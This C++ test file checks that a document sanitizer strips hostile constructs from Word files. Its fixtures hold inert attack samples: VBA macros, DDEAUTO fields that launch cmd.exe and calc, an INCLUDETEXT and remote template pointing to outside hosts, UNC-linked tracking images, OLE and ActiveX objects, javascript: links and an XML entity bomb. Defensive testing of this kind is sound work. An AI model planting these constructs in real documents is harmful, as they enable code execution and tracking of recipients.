// Word: each hostile construct is generated here, run through the engine, and looked for in the
// output with unzip (an independent reader).
#include "ooxml_support.hpp"

using namespace mugaika;
using namespace mugaika::test;
using namespace mugaika::test::ooxml;

namespace {

std::string para(const std::string& text) { return "<w:p><w:r><w:t>" + text + "</w:t></w:r></w:p>"; }

const std::string kPng = make_png(4, 4);

}  // namespace

TEST_CASE("ooxml: docm with VBA becomes a macro-free docx") {
    std::string in = make_ooxml("docm", "マクロ付き文書", true);
    Outcome o = sanitize(in, "report.docm");
    REQUIRE(o.verdict == Verdict::disarmed);
    REQUIRE(o.outputs.size() == 1);
    CHECK(o.outputs[0].type == "docx");
    CHECK(o.outputs[0].name == "report.docx");
    CHECK(has_finding(o, "ooxml.vba"));
    CHECK(has_finding(o, "ooxml.macro_enabled"));
    Unzipped z(o.outputs[0].bytes);
    CHECK_FALSE(z.any_contains("vbaProject"));
    std::string types = z.part("[Content_Types].xml");
    CHECK(types.find("wordprocessingml.document.main+xml") != std::string::npos);
    CHECK(types.find("macroEnabled") == std::string::npos);
    CHECK(z.part("word/document.xml").find("マクロ付き文書") != std::string::npos);
}

TEST_CASE("ooxml: a .docx that carries VBA inside is rebuilt without it") {
    Outcome o = sanitize(make_ooxml("docx", "hidden", true), "plain.docx");
    REQUIRE(o.verdict == Verdict::disarmed);
    CHECK(o.outputs[0].type == "docx");
    CHECK(o.outputs[0].name == "plain.docx");
    Unzipped z(o.outputs[0].bytes);
    CHECK_FALSE(z.any_contains("vbaProject"));
}

TEST_CASE("ooxml: DDE and DDEAUTO fields lose their instruction and keep their result") {
    Docx d;
    d.body = para("before") +
             R"(<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>DDE結果</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>)"
             R"(<w:p><w:fldSimple w:instr=" DDE &quot;cmd&quot; &quot;/c calc&quot; "><w:r><w:t>簡易結果</w:t></w:r></w:fldSimple></w:p>)"
             R"(<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> PAGE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>1</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>)"
             R"(<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>TEXT "\\\\evil\\share\\x.docx"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>included</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>)";
    Outcome o = sanitize(d.build(), "dde.docx");
    REQUIRE(o.verdict == Verdict::disarmed);
    CHECK(has_finding(o, "ooxml.field"));
    std::string doc = Unzipped(o.outputs[0].bytes).part("word/document.xml");
    CHECK(doc.find("DDE") == doc.find("DDE結果"));   // only the result text mentions DDE
    CHECK(doc.find("cmd.exe") == std::string::npos);
    CHECK(doc.find("fldSimple") == std::string::npos);
    CHECK(doc.find("INCLUDE") == std::string::npos);
    CHECK(doc.find("evil") == std::string::npos);
    CHECK(doc.find("DDE結果") != std::string::npos);
    CHECK(doc.find("簡易結果") != std::string::npos);
    CHECK(doc.find("included") != std::string::npos);
    CHECK(doc.find(" PAGE ") != std::string::npos);   // harmless fields stay
}

TEST_CASE("ooxml: remote template, linked image, frame and subdocument references go") {
    Docx d;
    d.settings = R"(<w:attachedTemplate r:id="rIdT"/>)";
    d.settings_rels = rel("rIdT", "attachedTemplate", "http://203.0.113.9/template.dotm", true);
    d.body = para("text") +
             R"(<w:p><w:r><w:drawing><a:graphic><a:graphicData><a:blip r:embed="rIdImg" r:link="rIdLinked"/></a:graphicData></a:graphic></w:drawing></w:r></w:p>)"
             R"(<w:subDoc r:id="rIdSub"/>)";
    d.doc_rels = rel("rIdImg", "image", "media/image1.png") +
                 rel("rIdLinked", "image", "\\\\203.0.113.9\\share\\track.png", true) +
                 rel("rIdSub", "subDocument", "file:///C:/secret.docx", true);
    d.parts.push_back({"word/media/image1.png", kPng});
    Outcome o = sanitize(d.build(), "t.docx");
    REQUIRE(o.verdict == Verdict::disarmed);
    CHECK(has_finding(o, "ooxml.remote_template"));
    CHECK(has_finding(o, "ooxml.linked_image"));
    Unzipped z(o.outputs[0].bytes);
    std::string all = z.all_xml();
    CHECK(all.find("TargetMode=\"External\"") == std::string::npos);
    CHECK(all.find("attachedTemplate") == std::string::npos);
    CHECK(all.find("203.0.113.9") == std::string::npos);
    CHECK(all.find("r:link") == std::string::npos);
    CHECK(all.find("subDoc") == std::string::npos);
    CHECK(z.has("word/media/image1.png"));
    CHECK(z.part("word/document.xml").find("r:embed=\"rIdImg\"") != std::string::npos);
}

TEST_CASE("ooxml: OLE object goes, its preview picture stays, ActiveX, altChunk and customUI go") {
    Docx d;
    d.body = para("本文") +
             R"(<w:p><w:r><w:object><v:shape id="s1"><v:imagedata r:id="rIdPrev"/></v:shape><o:OLEObject Type="Embed" ProgID="Package" ShapeID="s1" r:id="rIdOle"/></w:object></w:r></w:p>)"
             R"(<w:p><w:r><w:object><w:control r:id="rIdAx" w:name="CommandButton1"/></w:object></w:r></w:p>)"
             R"(<w:altChunk r:id="rIdChunk"/>)";
    d.doc_rels = rel("rIdPrev", "image", "media/preview.png") + rel("rIdOle", "oleObject", "embeddings/oleObject1.bin") +
                 rel("rIdAx", "control", "activeX/activeX1.xml") + rel("rIdChunk", "aFChunk", "chunk.mht");
    d.package_rels = rel("rIdUI", "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility", "customUI/customUI14.xml");
    d.parts = {{"word/media/preview.png", kPng},
               {"word/embeddings/oleObject1.bin", make_cfb({{"\x01Ole10Native", "MZ payload"}})},
               {"word/activeX/activeX1.xml", R"(<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D7053240-CE69-11CD-A777-00DD01143C57}"/>)"},
               {"word/chunk.mht", "MIME-Version: 1.0\r\n\r\n<script>alert(1)</script>"},
               {"customUI/customUI14.xml", R"(<customUI xmlns="http://schemas.microsoft.com/office/2009/07/customui" onLoad="Evil"/>)"}};
    d.types = {{"/word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"},
               {"/word/chunk.mht", "message/rfc822"},
               {"/customUI/customUI14.xml", "application/xml"}};
    Outcome o = sanitize(d.build(), "ole.docx");
    REQUIRE(o.verdict == Verdict::disarmed);
    for (const char* kind : {"ooxml.ole", "ooxml.activex", "ooxml.altchunk", "ooxml.customui"}) CHECK(has_finding(o, kind));
    Unzipped z(o.outputs[0].bytes);
    CHECK_FALSE(z.any_contains("embeddings"));
    CHECK_FALSE(z.any_contains("activeX"));
    CHECK_FALSE(z.any_contains("chunk"));
    CHECK_FALSE(z.any_contains("customUI"));
    CHECK(z.has("word/media/preview.png"));
    std::string doc = z.part("word/document.xml");
    CHECK(doc.find("OLEObject") == std::string::npos);
    CHECK(doc.find("w:control") == std::string::npos);
    CHECK(doc.find("altChunk") == std::string::npos);
    CHECK(doc.find("v:imagedata r:id=\"rIdPrev\"") != std::string::npos);
    CHECK(z.all_xml().find("ui/extensibility") == std::string::npos);
}

TEST_CASE("ooxml: links policy keeps http(s) and mailto, removes file, UNC and javascript") {
    Docx d;
    d.body = R"(<w:p><w:hyperlink r:id="rIdWeb"><w:r><w:t>web</w:t></w:r></w:hyperlink><w:hyperlink r:id="rIdMail"><w:r><w:t>mail</w:t></w:r></w:hyperlink><w:hyperlink r:id="rIdFile"><w:r><w:t>file-text</w:t></w:r></w:hyperlink><w:hyperlink r:id="rIdUnc"><w:r><w:t>unc-text</w:t></w:r></w:hyperlink><w:hyperlink r:id="rIdJs"><w:r><w:t>js-text</w:t></w:r></w:hyperlink><w:hyperlink w:anchor="top"><w:r><w:t>anchor</w:t></w:r></w:hyperlink></w:p>)";
    d.doc_rels = rel("rIdWeb", "hyperlink", "https://www.city.example.lg.jp/", true) +
                 rel("rIdMail", "hyperlink", "mailto:soumu@example.lg.jp", true) +
                 rel("rIdFile", "hyperlink", "file:///C:/Windows/System32/calc.exe", true) +
                 rel("rIdUnc", "hyperlink", "\\\\198.51.100.7\\share\\a.lnk", true) +
                 rel("rIdJs", "hyperlink", "javascript:alert(1)", true);
    std::string in = d.build();

    Outcome o = sanitize(in, "links.docx");
    REQUIRE(o.verdict == Verdict::disarmed);
    CHECK(has_finding(o, "ooxml.link"));
    Unzipped z(o.outputs[0].bytes);
    std::string rels = z.part("word/_rels/document.xml.rels");
    CHECK(rels.find("https://www.city.example.lg.jp/") != std::string::npos);
    CHECK(rels.find("mailto:soumu@example.lg.jp") != std::string::npos);
    CHECK(rels.find("calc.exe") == std::string::npos);
    CHECK(rels.find("198.51.100.7") == std::string::npos);
    CHECK(rels.find("javascript") == std::string::npos);
    std::string doc = z.part("word/document.xml");
    for (const char* text : {"web", "mail", "file-text", "unc-text", "js-text", "anchor"}) CHECK(doc.find(text) != std::string::npos);
    CHECK(doc.find("rIdFile") == std::string::npos);
    CHECK(doc.find("w:anchor=\"top\"") != std::string::npos);

    Outcome dropped = sanitize(in, "links.docx", {{"links", "drop"}});
    REQUIRE(dropped.verdict == Verdict::disarmed);
    Unzipped zd(dropped.outputs[0].bytes);
    CHECK(zd.all_xml().find("TargetMode=\"External\"") == std::string::npos);
    CHECK(zd.part("word/document.xml").find("web") != std::string::npos);
}

TEST_CASE("ooxml: metadata is kept by default (機密性 marks) and stripped on request") {
    Docx d;
    d.body = para("x");
    d.package_rels = rel("rIdC", "custom-properties", "docProps/custom.xml") +
                     rel("rIdP", "http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties", "docProps/core.xml");
    d.types = {{"/docProps/custom.xml", CT + "custom-properties+xml"},
               {"/docProps/core.xml", "application/vnd.openxmlformats-package.core-properties+xml"}};
    d.parts = {{"docProps/custom.xml", R"(<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="機密性"><vt:lpwstr>機密性2</vt:lpwstr></property></Properties>)"},
               {"docProps/core.xml", R"(<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:creator>総務課</dc:creator></cp:coreProperties>)"}};
    std::string in = d.build();
    Outcome kept = sanitize(in, "m.docx");
    REQUIRE(kept.verdict == Verdict::disarmed);
    Unzipped z(kept.outputs[0].bytes);
    CHECK(z.part("docProps/custom.xml").find("機密性2") != std::string::npos);
    CHECK(z.part("docProps/core.xml").find("総務課") != std::string::npos);

    Outcome stripped = sanitize(in, "m.docx", {{"metadata", "strip"}});
    REQUIRE(stripped.verdict == Verdict::disarmed);
    CHECK(has_finding(stripped, "ooxml.metadata"));
    Unzipped zs(stripped.outputs[0].bytes);
    CHECK_FALSE(zs.any_contains("docProps"));
}

TEST_CASE("ooxml: parts outside the relationship graph and unknown relationships are dropped") {
    Docx d;
    d.body = para("x");
    d.doc_rels = rel("rIdX", "http://example.com/relationships/evil", "evil.xml");
    d.types = {{"/word/evil.xml", "application/xml"}};
    d.parts = {{"word/evil.xml", "<evil/>"}, {"word/orphan.xml", "<orphan/>"}, {"payload.exe", "MZ"}};
    Outcome o = sanitize(d.build(), "g.docx");
    REQUIRE(o.verdict == Verdict::disarmed);
    Unzipped z(o.outputs[0].bytes);
    CHECK_FALSE(z.any_contains("evil"));
    CHECK_FALSE(z.any_contains("orphan"));
    CHECK_FALSE(z.any_contains("payload"));
    // [Content_Types].xml lists exactly what is in the zip.
    std::string types = z.part("[Content_Types].xml");
    for (const auto& n : z.names) {
        if (n == "[Content_Types].xml" || n.ends_with(".rels")) continue;
        CHECK_MESSAGE(types.find("PartName=\"/" + n + "\"") != std::string::npos, n);
    }
    CHECK(types.find("evil") == std::string::npos);
}

TEST_CASE("ooxml: an image part that is not what its content type says becomes a placeholder, the original held") {
    Docx d;
    d.body = R"(<w:p><w:r><w:drawing><a:graphic><a:graphicData><a:blip r:embed="rIdImg"/></a:graphicData></a:graphic></w:drawing></w:r></w:p>)";
    d.doc_rels = rel("rIdImg", "image", "media/image1.png");
    d.parts = {{"word/media/image1.png", "<html><script>alert(1)</script></html>"}};
    Outcome o = sanitize(d.build(), "img.docx");
    REQUIRE(o.verdict == Verdict::disarmed);
    CHECK(has_finding(o, "ooxml.image"));
    CHECK_FALSE(o.held.empty());
    Unzipped z(o.outputs[0].bytes);
    std::string picture = z.part("word/media/image1.png");
    CHECK(picture.starts_with("\x89PNG"));
    CHECK(picture.find("<script") == std::string::npos);
}

TEST_CASE("ooxml: DOCTYPE and entity bombs in a part quarantine the package") {
    Docx d;
    d.body = para("x");
    std::string in = d.build();
    std::string bomb = R"(<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><w:document xmlns:w=")" + W_NS + R"("><w:body><w:p><w:r><w:t>&lol2;</w:t></w:r></w:p></w:body></w:document>)";
    PackageSpec s;
    s.content_types = {{"/word/document.xml", CT + "wordprocessingml.document.main+xml"}};
    s.rels = {{"", rel("rId1", "officeDocument", "word/document.xml")}};
    s.parts = {{"word/document.xml", bomb}};
    Outcome o = sanitize(make_package(s), "bomb.docx");
    CHECK(o.verdict == Verdict::quarantined);
    CHECK(o.reason == "malformed");
    CHECK(o.outputs.empty());
}

TEST_CASE("ooxml: encrypted OOXML is quarantined as encrypted") {
    std::string cfb = make_cfb({{"EncryptionInfo", std::string("\x04\x00\x04\x00\x40\x00\x00\x00", 8) + std::string(200, 'x')},
                                {"EncryptedPackage", std::string(4096, '\x5a')}});
    Outcome o = sanitize(cfb, "secret.docx");
    CHECK(o.detected_type == "office-encrypted");
    CHECK(o.verdict == Verdict::quarantined);
    CHECK(o.reason == "encrypted");
}

TEST_CASE("ooxml: part names compare case-insensitively, as OPC says") {
    Docx d;
    d.body = R"(<w:p><w:r><w:drawing><a:graphic><a:graphicData><a:blip r:embed="rIdA"/><a:blip r:embed="rIdB"/></a:graphicData></a:graphic></w:drawing></w:r></w:p>)";
    d.doc_rels = rel("rIdA", "image", "media/image1.png") + rel("rIdB", "image", "Media/IMAGE1.png");
    d.parts = {{"word/media/image1.png", kPng}};
    Outcome o = sanitize(d.build(), "case.docx");
    REQUIRE(o.verdict == Verdict::disarmed);
    Unzipped z(o.outputs[0].bytes);
    CHECK(z.has("word/media/image1.png"));
    std::string rels = z.part("word/_rels/document.xml.rels");
    CHECK(rels.find("rIdA") != std::string::npos);
    CHECK(rels.find("rIdB") != std::string::npos);
    CHECK(z.part("word/document.xml").find("r:embed=\"rIdB\"") != std::string::npos);
}

TEST_CASE("ooxml: digital signatures and web extensions are removed, and the report says why") {
    Docx d;
    d.body = para("signed");
    d.package_rels = rel("rIdSig", "http://schemas.openxmlformats.org/package/2006/relationships/digital-signature/origin", "_xmlsignatures/origin.sigs") +
                     rel("rIdWe", "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes", "word/webextensions/taskpanes.xml");
    d.types = {{"/_xmlsignatures/origin.sigs", "application/vnd.openxmlformats-package.digital-signature-origin"},
               {"/word/webextensions/taskpanes.xml", "application/vnd.ms-office.webextensiontaskpanes+xml"}};
    d.parts = {{"_xmlsignatures/origin.sigs", ""},
               {"_xmlsignatures/sig1.xml", "<Signature xmlns=\"http://www.w3.org/2000/09/xmldsig#\"/>"},
               {"word/webextensions/taskpanes.xml", "<wetp:taskpanes xmlns:wetp=\"http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11\"/>"}};
    Outcome o = sanitize(d.build(), "sig.docx");
    REQUIRE(o.verdict == Verdict::disarmed);
    CHECK(has_finding(o, "ooxml.signature"));
    CHECK(has_finding(o, "ooxml.webextension"));
    bool says_why = false;
    for (const auto& f : o.findings)
        if (f.kind == "ooxml.signature") says_why = f.ja.find("署名は無効") != std::string::npos;
    CHECK(says_why);
    Unzipped z(o.outputs[0].bytes);
    CHECK_FALSE(z.any_contains("_xmlsignatures"));
    CHECK_FALSE(z.any_contains("webextensions"));
}
